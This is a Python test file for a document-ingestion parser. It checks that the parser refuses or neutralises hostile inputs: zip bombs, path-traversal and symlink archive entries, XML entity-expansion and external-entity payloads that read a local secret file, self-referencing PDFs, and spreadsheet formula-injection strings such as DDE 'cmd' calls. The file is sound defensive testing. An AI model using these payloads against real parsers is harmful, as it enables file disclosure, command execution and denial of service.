"""Files made to do harm, and files beyond all measure: a result or a plain refusal, within limits.

What `test_archive.py`, `test_docx.py`, `test_xlsx.py` and `test_pdf.py` hold is not said again.
"""

import io
import os
import re
import stat
import struct
from zipfile import ZIP_STORED, ZipFile, ZipInfo

import openpyxl
import pytest

from tests.evidence.making import a_docx, zipped
from tests.evidence.measuring import own_peak, peak_of
from tests.evidence.resolving import attempt, result_or_words
from workbench.errors import DocumentError
from workbench.evidence.guard import Parser
from workbench.evidence.ingest import from_path, from_upload, ingest
from workbench.evidence.parse import parse
from workbench.settings import Settings

SECRET = "the secret of the machine"


@pytest.fixture(scope="module")
def parser():
    with Parser(seconds=120) as opened:
        yield opened


def an_xlsx(rows=(("Tariff", "Rate"), ("Flex", "24.1 p"), ("Fix", "26 p"))):
    target, book = io.BytesIO(), openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(target)
    return target.getvalue()


# ---------------------------------------------------------------- archives


def overlapping(entries, content):
    """An archive that lists one packed file under many names."""
    data = zipped({"00000.txt": content})
    listing = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    entry = data[listing:end]
    many = b"".join(entry.replace(b"00000.txt", b"%05d.txt" % n) for n in range(entries))
    last = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(many), listing, 0)
    return data[:listing] + many + last


def test_files_that_share_their_packed_bytes_are_a_bomb_or_read_one_by_one(documents):
    (bomb,) = from_upload("a.zip", overlapping(1_000, bytes(1_000_000)))
    with pytest.raises(DocumentError, match="would unpack to 1,000 MB"):
        bomb.read()
    few = from_upload("a.zip", overlapping(20, b"The fee is five euros."))
    results = list(ingest(few, documents, collection="c", settings=Settings(parse_seconds=60)))
    assert {r.status for r in results} <= {"added", "known", "failed"}
    assert all(r.error.endswith(".") for r in results if r.status == "failed")


def test_bombs_within_bombs_are_not_opened(documents):
    inner = zipped({"zeros.txt": bytes(60_000_000)})
    for depth in range(3):
        inner = zipped({f"{depth}-{n}.zip": inner for n in range(8)}, ZIP_STORED)
    before = own_peak()
    results = list(
        ingest(from_upload("a.zip", inner), documents, collection="c", settings=Settings())
    )
    assert {r.status for r in results} == {"failed"}
    assert all("archive inside an archive" in r.error for r in results)
    assert own_peak() - before < 100e6


def test_nothing_of_an_archive_is_ever_written_to_a_path(empty_wb, tmp_path):
    evil = tmp_path / "evil-absolute.md"
    names = [
        str(evil), "../../evil-up.md", "..\\evil-back.md", "a/../../evil-mid.md", "evil\nline.md",
        "evil\u202edm.md", "evil" * 8_000 + ".md", "evil:stream.md", "CON.md",
    ]  # fmt: skip
    link = ZipInfo("evil-link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    parts = {name: f"# N\n\nThe name {n} is odd.\n" for n, name in enumerate(names)}
    data = zipped({link: str(tmp_path), "evil-link/evil-through.md": "Through.", **parts})
    results = list(empty_wb.ingest_files(from_upload("a.zip", data)))
    assert [r.status for r in results] == ["added"] * (len(names) + 1)
    for document in empty_wb.documents.list():
        assert "\n" not in document.title
        assert re.fullmatch(r"upload:a\.zip!/[^\n\u202e]+", document.source)
    assert not list(tmp_path.rglob("*evil*"))


# ---------------------------------------------------------------- folders


def test_links_out_of_a_folder_are_not_followed_whatever_they_point_at(documents, tmp_path):
    folder, outside = tmp_path / "docs", tmp_path / "outside"
    for place in (folder, outside):
        place.mkdir()
    (outside / "secret.md").write_text(SECRET)
    (outside / "secret.zip").write_bytes(zipped({"secret.md": SECRET}))
    (folder / "own.md").write_text("The fee is five euros.")
    targets = {
        "file.md": outside / "secret.md",
        "folder": outside,
        "archive.zip": outside / "secret.zip",
        "device.txt": "/dev/zero",
        "nowhere.md": tmp_path / "missing",
        "self.md": folder / "self.md",
    }
    for name, target in targets.items():
        (folder / name).symlink_to(target)
    (result,) = ingest(from_path(folder), documents, collection="c", settings=Settings())
    assert result.status == "added"
    assert list(documents.texts.values()) == ["The fee is five euros."]


def test_what_takes_the_place_of_a_file_after_it_was_listed_is_not_read(documents, tmp_path):
    folder, secret = tmp_path / "docs", tmp_path / "secret.md"
    folder.mkdir()
    secret.write_text(SECRET)
    names = ["folder.md", "fifo.md", "link.md"]
    for name in names:
        (folder / name).write_text("The fee is five euros.")
    files = from_path(folder)
    for name in names:
        (folder / name).unlink()
    (folder / "folder.md").mkdir()
    os.mkfifo(folder / "fifo.md")
    (folder / "link.md").symlink_to(secret)
    results = list(ingest(files, documents, collection="c", settings=Settings()))
    assert [r.status for r in results] == ["failed"] * 3
    assert all(r.error.endswith(".") for r in results)
    assert not documents.added


def test_devices_are_refused_unread(tmp_path):
    (file,) = from_path("/dev/zero")
    with pytest.raises(DocumentError, match="device or a pipe"):
        file.read()
    try:
        os.mknod(tmp_path / "zero.txt", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    except OSError as error:
        pytest.skip(f"no device can be made here: {error}")
    (file,) = from_path(tmp_path)
    with pytest.raises(DocumentError, match="device or a pipe"):
        file.read()


# ---------------------------------------------------------------- XML

LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
) + ']>'  # fmt: skip
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a11 "{"ha" * 50_000}">]>'
OUTWARD = '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file://{secret}">]>'
REMOTE = '<!DOCTYPE x SYSTEM "file://{secret}" [<!ENTITY % p SYSTEM "file://{secret}"> %p;]>'


def poisoned(part, doctype):
    """An XML part that begins with definitions, and uses them in its first element."""
    rest = re.sub(rb"^\s*<\?xml[^>]*\?>", b"", part)
    used = re.sub(rb"(<[^/?!][^>]*[^/]>)", rb"\1&a11;", rest, count=1)
    return doctype.encode() + used


@pytest.mark.parametrize("doctype", [LAUGHS, QUADRATIC, OUTWARD, REMOTE],
                         ids=["laughs", "quadratic", "outward", "remote"])  # fmt: skip
@pytest.mark.parametrize(("whole", "name"), [(a_docx, "a.docx"), (an_xlsx, "a.xlsx")],
                         ids=["docx", "xlsx"])  # fmt: skip
def test_definitions_do_no_harm_in_any_part_of_an_office_file(
    parser, repack, tmp_path, doctype, whole, name
):
    (tmp_path / "secret.txt").write_text(SECRET)
    data, plain = whole(), parse(whole(), name).text
    refused = 0
    for part in ZipFile(io.BytesIO(data)).namelist():
        if not part.endswith((".xml", ".rels")):
            continue
        bad = repack(
            data, {part: lambda x: poisoned(x, doctype.format(secret=tmp_path / "secret.txt"))}
        )
        found = attempt(parser.parse, bad, name)
        if isinstance(found, DocumentError):
            assert "DOCTYPE" in found.message, part
            refused += 1
        else:  # a part that is not read
            assert found.text == plain, part
    assert refused >= 4
    assert peak_of(parser._child) < 1e9


@pytest.mark.parametrize("suffix", [".html", ".xhtml", ".md", ".eml", ".txt", ".csv", ".jsonl"])
def test_definitions_do_no_harm_in_text_of_any_kind(parser, tmp_path, suffix):
    (tmp_path / "secret.txt").write_text(SECRET)
    mail = b"Subject: x\nFrom: a@example.org\nContent-Type: text/html\n\n"
    for doctype in (LAUGHS, QUADRATIC, OUTWARD, REMOTE):
        body = "<html><body><p>The fee is &a11; five.</p></body></html>"
        head = doctype.format(secret=tmp_path / "secret.txt").replace("DOCTYPE x", "DOCTYPE html")
        data = (mail if suffix == ".eml" else b"") + (head + body).encode()
        said = result_or_words(attempt(parser.parse, data, f"a{suffix}"), data, doctype[:40])
        assert SECRET not in said
        assert len(said) < 2 * len(data)


# ---------------------------------------------------------------- PDF


def pdf(*objects, trailer="/Root 1 0 R"):
    """A PDF of these objects, numbered from 1, with a cross-reference table that fits."""
    body, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, start=1):
        places.append(len(body))
        body += f"{number} 0 obj\n{content}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    return (
        body
        + (
            f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
            f"trailer\n<< /Size {len(objects) + 1} {trailer} >>\nstartxref\n{len(body)}\n%%EOF\n"
        ).encode()
    )


DRAW = "BT /F1 12 Tf 72 700 Td (The fee is five euros.) Tj ET"
STREAM = f"<< /Length {len(DRAW)} >>\nstream\n{DRAW}\nendstream"
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
LEAF = (
    "<< /Type /Page /Parent {parent} 0 R /MediaBox [0 0 600 800] /Contents {contents} 0 R "
    "/Resources << /Font << /F1 5 0 R >> /XObject << /X {form} 0 R >> >> >>"
)
CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"
PAGE = LEAF.format(parent=2, contents=4, form=6)
CALLS = "/X Do " + DRAW
FORM = (
    "<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] "
    f"/Resources << /Font << /F1 5 0 R >> /XObject << /X 6 0 R >> >> /Length {len(CALLS)} >>\n"
    f"stream\n{CALLS}\nendstream"
)
LOOPS = {
    "pages that hold themselves": pdf(
        CATALOG, "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>", PAGE, STREAM, FONT),
    "pages that hold each other": pdf(
        CATALOG, "<< /Type /Pages /Kids [6 0 R] /Count 9 >>", PAGE, STREAM, FONT,
        "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R 2 0 R] /Count 9 >>"),
    "a parent that is its own child": pdf(
        CATALOG, "<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>",
        PAGE.replace("/MediaBox [0 0 600 800]", ""), STREAM, FONT),
    "more pages than can be": pdf(
        CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>", PAGE, STREAM, FONT),
    "fewer pages than none": pdf(
        CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count -5 >>", PAGE, STREAM, FONT),
    "a form that draws itself": pdf(
        CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        LEAF.format(parent=2, contents=6, form=6), STREAM, FONT, FORM),
    "a length that refers to itself": pdf(
        CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE,
        STREAM.replace(f"/Length {len(DRAW)}", "/Length 4 0 R"), FONT),
    "tables that refer to each other": pdf(
        CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, STREAM, FONT,
        trailer="/Root 1 0 R /Prev 9"),
}  # fmt: skip


@pytest.mark.parametrize("data", LOOPS.values(), ids=LOOPS.keys())
def test_loops_within_a_pdf_end(parser, data):
    said = result_or_words(attempt(parser.parse, data, "loop.pdf"), data, "loop")
    print(said[:200])
    assert "took longer" not in said
    assert peak_of(parser._child) < 1e9


def test_a_pdf_without_a_usable_table_of_its_objects_is_mended_or_refused(parser):
    whole = pdf(CATALOG, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, STREAM, FONT)
    table = whole.index(b"xref\n")
    broken = [
        re.sub(rb"startxref\n\d+", b"startxref\n7", whole),
        re.sub(rb"startxref\n\d+", b"startxref\n99999999999", whole),
        re.sub(rb"\d{10} 00000 n", b"0000000001 00000 n", whole),
        re.sub(rb"xref\n0 \d", b"xref\n0 2000000000", whole),
        whole[:table] + b"%%EOF\n",
    ]
    assert parser.parse(whole, "a.pdf").text == "The fee is five euros."
    for data in broken:
        said = result_or_words(attempt(parser.parse, data, "a.pdf"), data, data[table:])
        assert said == "The fee is five euros." or "damaged" in said


# ---------------------------------------------------------------- cells

FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1,"Pay here")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    '=WEBSERVICE("https://example.org")',
]


def test_formulas_in_cells_are_words_that_nobody_computes(parser):
    rows = [("Name", "Value"), *(("Row", formula) for formula in FORMULAS)]
    quoted = "\n".join(
        ",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows
    )
    for data, name in ((quoted.encode(), "a.csv"), (an_xlsx(rows), "a.xlsx")):
        text = parser.parse(data, name).text
        for formula in FORMULAS:
            assert formula in text, name
